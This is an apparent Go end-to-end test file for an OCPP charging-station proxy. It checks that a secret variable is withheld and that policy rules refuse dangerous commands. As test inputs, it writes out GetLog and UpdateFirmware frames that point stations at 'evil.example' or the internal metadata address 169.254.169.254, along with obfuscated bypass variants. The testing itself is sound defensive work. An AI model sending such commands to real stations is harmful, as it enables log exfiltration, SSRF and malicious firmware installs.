package e2e_test

import (
	"encoding/base64"
	"fmt"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// Of a list of variables the back end may write some: they reach the station
// without the one that would lock it out, and the answer has both.
func TestGuardedVariableIsLeftOut(t *testing.T) { // promise 4
	t.Parallel()
	backend := startBackend(t)
	srv := newServer(t, backend.conf())
	srv.start()
	s, b := backend.session(t, srv, srv.enlist("mixed", 2), rawOptions{versions: []string{"ocpp2.0.1"}})
	const clock, password = `"component":{"name":"ClockCtrlr"},"variable":{"name":"NtpServerUri"}`, `"component":{"name":"SecurityCtrlr"},"variable":{"name":"BasicAuthPassword"}`
	if err := b.conn.WriteText([]byte(`[2,"m","SetVariables",{"setVariableData":[{"attributeValue":"x",` + password + `},{"attributeValue":"ntp.example",` + clock + `}]}]`)); err != nil {
		t.Fatal(err)
	}
	if got := s.next(); strings.Contains(got, "BasicAuthPassword") || !strings.Contains(got, "NtpServerUri") {
		t.Fatalf("the station got %s", got)
	}
	s.send(`[3,"m",{"setVariableResult":[{"attributeStatus":"Accepted",` + clock + `}]}]`)
	eventually(t, "both results", func() bool {
		for _, f := range b.received() {
			if strings.HasPrefix(f, `[3,"m"`) {
				return strings.Contains(f, `"Rejected"`) && strings.Contains(f, `"Accepted"`) && strings.Index(f, "BasicAuth") < strings.Index(f, "NtpServerUri")
			}
		}
		return false
	})
}

// A message that policy refuses never reaches the station, in any version and
// spelling, and one of a station never the back end; its sender gets the answer
// of its version. New rules reach live sessions, wrong ones change nothing.
func TestPolicyRefuses(t *testing.T) {
	t.Parallel()
	backend := startBackend(t)
	srv := newServer(t, backend.conf())
	rules := filepath.Join(srv.data, "policy", "rules.yaml")
	srv.cli("policy", "promote", "station-commands")
	srv.write(rules, "lists: {station_hosts: [files.example.com]}\n")
	srv.start()
	for i, version := range []string{"ocpp1.6", "ocpp2.0.1", "ocpp2.1"} {
		e := srv.enlist("policy-"+strconv.Itoa(i), 2)
		s, b := backend.session(t, srv, e, rawOptions{versions: []string{version}})
		evil := `{"logType":"SecurityLog","requestId":1,"log":{"remoteLocation":"https://evil.example/x"}}`
		signed := `{"protected":"e30","payload":"` + base64.RawURLEncoding.EncodeToString([]byte(evil)) + `","signature":"AA"}`
		frames := map[string]string{
			"plain":       `[2,"%s","GetLog",` + evil + `]`,
			"escapes":     `[2,"%s","\u0047etLo\u0067",` + strings.ReplaceAll(evil, "evil", `\u0065vil`) + `]`,
			"signed":      `[2,"%s","GetLog-Signed",` + signed + `]`,
			"key's case":  `[2,"%s","GetLog",` + strings.Replace(evil, "remoteLocation", "RemoteLocation", 1) + `]`,
			"action":      `[2,"%s","getlog",` + evil + `]`,
			"twins":       `[2,"%s","GetLog",` + strings.Replace(evil, `"log":{`, `"log":{"remoteLocation":"https://files.example.com/",`, 1) + `]`,
			"no location": `[2,"%s","GetLog",{"log":{}}]`,
			"to inside":   `[2,"%s","GetLog",` + strings.Replace(evil, "evil.example", "169.254.169.254", 1) + `]`,
		}
		if version == "ocpp1.6" {
			frames["wrapped"] = `[2,"%s","DataTransfer",{"vendorId":"org.openchargealliance.iso15118pnc","messageId":"InstallCertificate","data":"{\"certificateType\":\"V2GRootCertificate\",\"certificate\":\"x\"}"}]`
			frames["firmware"] = `[2,"%s","UpdateFirmware",{"location":"ftp://evil.example/","retrieveDate":"2026-01-01T00:00:00Z"}]`
		}
		for name, frame := range frames {
			id := strings.ReplaceAll(name, " ", "-")
			if err := b.conn.WriteText(fmt.Appendf(nil, frame, id)); err != nil {
				t.Fatal(err)
			}
			eventually(t, version+" "+name+" is answered", func() bool {
				for _, f := range b.received() {
					if strings.HasPrefix(f, `[3,"`+id+`"`) && strings.Contains(f, "Rejected") || strings.HasPrefix(f, `[4,"`+id+`"`) {
						return true
					}
				}
				return false
			})
		}
		good := `[2,"good","GetLog",` + strings.Replace(evil, "evil", "files", 1) + `]`
		good = strings.Replace(good, "files.example/", "files.example.com/", 1)
		if err := b.conn.WriteText([]byte(good)); err != nil {
			t.Fatal(err)
		}
		if got := s.next(); got != good {
			t.Errorf("%s: the station got %s", version, got)
		}
		s.send(`[2,"cmd","Reset",{"type":"Hard"}]`)
		if got := s.next(); !strings.HasPrefix(got, `[4,"cmd","NotSupported"`) {
			t.Errorf("%s: a station's command is answered %s", version, got)
		}
		for _, f := range b.received() {
			if strings.Contains(f, "Reset") {
				t.Errorf("%s: the back end got %s", version, f)
			}
		}

		// New rules reach this session.
		srv.write(rules, "lists: {station_hosts: [other.example]}\n")
		srv.cli("policy", "reload")
		if err := b.conn.WriteText([]byte(strings.Replace(good, `"good"`, `"late"`, 1))); err != nil {
			t.Fatal(err)
		}
		eventually(t, "the new rules refuse", func() bool {
			return strings.Contains(strings.Join(b.received(), "\n"), `[3,"late",{"status":"Rejected"`)
		})
		srv.write(rules, "lists: [broken\n")
		if _, stderr, code := srv.try("", "policy", "reload"); code != 2 || !strings.Contains(stderr, "policy/rules.yaml:") {
			t.Errorf("broken rules: exit %d, %s", code, stderr)
		}
		srv.write(rules, "lists: {station_hosts: [files.example.com]}\n")
		srv.cli("policy", "reload")
	}
	out := srv.cli("policy", "explain", "--station", "policy-0")
	for _, want := range []string{"refused GetLog", "rule log-urls", "rule anchors", "rule station-commands", "built-in:"} {
		if !strings.Contains(out, want) {
			t.Errorf("explained without %q: %s", want, out)
		}
	}
}
